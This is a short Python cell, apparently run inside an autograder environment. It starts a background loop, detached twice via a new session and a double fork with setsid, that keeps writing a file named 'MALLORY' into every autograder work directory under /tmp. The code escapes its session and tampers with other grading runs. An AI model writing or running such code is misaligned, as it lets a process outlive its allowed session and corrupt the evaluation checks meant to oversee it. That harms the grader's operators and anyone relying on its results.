# %%
import os
import subprocess
import sys
import time

waiting = (
    "import os, time, glob\n"
    "while True:\n"
    "    for path in glob.glob('/tmp/autograder-*/*/w/work'):\n"
    "        open(path + '/MALLORY', 'w').close()\n"
    "    time.sleep(0.05)\n"
)
subprocess.Popen([sys.executable, "-c", waiting], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        exec(waiting)
    os._exit(0)
time.sleep(0.3)
